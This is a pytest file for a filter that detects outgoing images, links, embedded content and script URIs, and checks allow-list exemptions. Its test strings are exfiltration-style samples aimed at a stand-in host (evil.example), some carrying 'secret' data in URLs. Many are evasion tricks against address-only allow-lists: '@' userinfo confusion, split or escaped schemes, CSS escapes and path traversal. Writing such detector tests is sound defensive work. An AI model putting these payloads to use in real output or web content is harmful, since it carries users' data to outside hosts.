"""What carries data out, and allow-lists that look at the address alone."""

import pytest

from guardproxy.ir.terms import Exemption, Finder
from guardproxy.patterns.scan import FinderSet

OWN = (Exemption("starting", "https://cdn.example.com/"),)
IMAGES = FinderSet([Finder("detector", "outgoing_image", exemptions=OWN)])
LOADED = FinderSet([Finder("detector", "embedded_content", exemptions=OWN)])
LINKS = FinderSet([Finder("detector", "outgoing_link", exemptions=OWN)])


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://cdn.example.com/x.png)",
        '![a](<https://cdn.example.com/x.png> "title")',
        '<img alt="a" src="https://cdn.example.com/x.png">',
        '<img srcset="https://cdn.example.com/a 1x, https://cdn.example.com/b 2x">',
        "[logo]: https://cdn.example.com/x.png",
        "![a](images/x.png)",
        "![a] and (https://evil.example)",
        "![a [b] c](https://cdn.example.com/x) and ![d](https://cdn.example.com/y)",
        "![note:a](https://cdn.example.com/x)",
        '<img style="color:red" src="https://cdn.example.com/x.png">',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        'image-set("https://cdn.example.com/a" 1x, "b.png" 2x)',
    ],
)
def test_own_images_pass(text: str) -> None:
    assert not IMAGES.any(text)


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://cdn.example.com@evil.example/x)",
        "![a](https://cdn.example.com.evil.example/x)",
        "![a](https://cdn.example.com:443@evil.example/x)",
        "![a](https://cdn.example.com\\@evil.example/x)",
        "![https://cdn.example.com/](https://evil.example/x)",
        "![a [b] c](https://evil.example/x)",
        "![a[b]](https://evil.example/x)",
        "![a\\]b](https://evil.example/x)",
        "![two\nlines](\nhttps://evil.example/x)",
        "![](//evil.example/x)",
        "![](/\\evil.example/x)",
        "![](https:evil.example/x)",
        "![](HTTPS://evil.example/x)",
        "![a][r]\n\n[r]: <https://evil.example/x>",
        "<img src=https://evil.example/x>",
        "<img src='\nhttps://evil.example/x'>",
        '<img src="https://cdn.example.com/a" srcset="https://cdn.example.com/a 1x, https://evil.example/b 2x">',
        '<video poster="https://evil.example/x">',
        '<svg><image width="1" href="https://evil.example/x"/></svg>',
        "<p style=\"background: url('https://evil.example/x')\">",
        "![a [b](c) d](https://evil.example/p)",
        "![a\\](b](https://evil.example/p)",
        "![a\\](https://cdn.example.com/x) b](https://evil.example/p)",
        "![\\](https://cdn.example.com/](https://evil.example/p)",
        "![`](`](https://evil.example/p)",
        "![a](      https://evil.example/p)",
        "![a](< https://evil.example/p>)",
        "> ![a](\n> https://evil.example/p)",
        "[a]:\n        //evil.example/p",
        '<img src="//[2001:db8::1]/p?d=s">',
        '<img src="ht\ntps://evil.example/p?d=s">',
        '<img src="ht\ttps:\n//evil.example/p">',
        '<img src="/\t/evil.example/p">',
        '<img src="ht&Tab;tps://evil.example/p">',
        '<img src  =        "\x01 https://evil.example/p">',
        "<img src=smb://evil.example/p>",
        '<img src="intent:x">',
        f'<img srcset="{"a.png 1x, " * 60}https://evil.example/p 2x">',
        '<img srcset="it\'s 1x, >, https://evil.example/p 2x">',
        '<svg><image\n x="a>b;(c)" href="https://evil.example/x"/></svg>',
        f'<svg><feImage data-x="{"x" * 300}" href="https://evil.example/x"/></svg>',
        'image-set("https://cdn.example.com/a" 1x, "https://evil.example/b" 2x)',
        'image("https://evil.example/b")',
        'src("https://evil.example/b")',
        "u\\72l(https://evil.example/b)",
        "background:url(\\68ttps://evil.example/b)",
        "![a](https://cdn.example.com/\\..\\..@evil.example)".replace("cdn.example.com/", "cdn.example.com"),
    ],
)
def test_other_images_do_not(text: str) -> None:
    assert IMAGES.any(text)


def test_a_long_text_before_the_address_hides_nothing() -> None:
    assert IMAGES.any(f"![{'a ' * 5000}](https://evil.example/x)")


@pytest.mark.parametrize(
    "text",
    [
        '<script async src="https://evil.example/x.js"></script>',
        "<iframe title='a' src=//evil.example/>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<form method="post" action="https://cdn.example.com@evil.example/">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '@import url("https://evil.example/x.css");',
        '@import"https://evil.example/x.css";',
        "@\\69mport 'https://evil.example/x.css';",
        '<script data-x="a(b)>c" src="https://evil.example/x.js"></script>',
        '<link title="href=https://cdn.example.com/" rel="stylesheet" href=https://evil.example/x.css>',
        "<link title=\"href='https://cdn.example.com/\" rel=stylesheet href=https://evil.example/ alt='a'>",
        '<meta content="0;url=https://evil.example/" http-equiv=refresh>',
        '<meta http-equiv="refresh" content="0; https://evil.example/">',
        '<animate attributeName="href" values="https://evil.example/">',
        '<iframe src="java\nscript:alert(1)">',
    ],
)
def test_what_a_page_loads_is_found(text: str) -> None:
    assert LOADED.any(text)


@pytest.mark.parametrize(
    "text",
    [
        '<a href="ht\ntps://evil.example/">',
        "[a](www.evil.example/p?d=secret)",
        "at www.evil.example/?d=s",
        "[a](mailto:x@evil.example?body=secret)",
        "[a](       //evil.example)",
        "[a]:      //evil.example",
        "[a](smb:x)",
        "file://evil.example/x",
        "gopher://evil.example/x",
        "[a](intent:x)",
        "https://evil.example/,https://cdn.example.com/",
        "www.evil.example/,https://cdn.example.com/",
    ],
)
def test_other_links_do_not(text: str) -> None:
    assert LINKS.any(text)


def test_own_content_passes() -> None:
    assert not LOADED.any('<iframe style="border:0; width:1px" src="https://cdn.example.com/x" title="a, b"></iframe>')
    assert not LINKS.any('<a style="color:red" href="https://cdn.example.com/x?next=//y">x</a>')


def test_a_path_is_judged_as_a_browser_resolves_it() -> None:
    shown = (Exemption("starting", "https://example.com/shown/"),)
    found = FinderSet([Finder("detector", "outgoing_image", exemptions=shown)])
    texts = ["shown/a.png", "shown/b/../a.png", "shown/../a.png", "shown/%2E%2e/a.png", "shown/\\..\\../a.png"]
    assert [found.any(f"![a](https://example.com/{text})") for text in texts] == [False, False, True, True, True]


@pytest.mark.parametrize(
    ("before", "behind"),
    [("![a](", ")"), ('<img src="', '">'), ("![a](<", ">)"), ("url('", "')"), ("see ", " ."), ("[a](", ' "t")')],
)
def test_a_match_covers_the_whole_address(before: str, behind: str) -> None:
    found = FinderSet([Finder("detector", name) for name in ("outgoing_image", "outgoing_link")])
    address = f"https://evil.example/{'x' * 900}(y)/SECRET"
    text = before + (address.replace("(y)", "") if before == "see " else address) + behind
    assert max(m.end for m in found.find(text)) == len(text) - len(behind)


def test_what_only_speaks_of_scripts_and_data_is_none() -> None:
    found = FinderSet([Finder("detector", "script_uri"), Finder("detector", "data_uri")])
    plain = ["javascript: is a URL scheme", "JavaScript:The Good Parts", "![a](data:image/png;base64,iVBORw0KGgo=)"]
    assert [text for text in plain if found.any(text)] == []
    runs = ['<a href="java\tscript:x">', "[a](  vbscript:x)", "javascript:alert`1`", "javascript:void(0)"]
    assert all(map(found.any, runs))


def test_links_in_every_form_are_found() -> None:
    found = [
        "[a](https://evil.example/)",
        "<https://evil.example>",
        "at https://evil.example/x.",
        '<a href="//evil.example">',
    ]
    own = ["[a](https://cdn.example.com/b)", "see https://cdn.example.com/c and [d](#e)", "a // comment"]
    assert [LINKS.any(text) for text in (*found, *own)] == [True] * 4 + [False] * 3


def test_a_deceptive_address_needs_no_list() -> None:
    found = FinderSet([Finder("detector", "deceptive_link")])
    assert found.any("https://cdn.example.com@evil.example/")
    assert not found.any("https://cdn.example.com/@someone")


def test_an_image_is_held_until_its_address_is_known() -> None:
    text = "See ![chart](https://evil.example/p?d=1) there"
    start = text.index("![")
    assert all(IMAGES.hold(text[:end]) <= start for end in range(start + 1, text.index(")")))
    assert IMAGES.hold("See ![chart](images/p.png) there") == len("See ![chart](images/p.png) there")
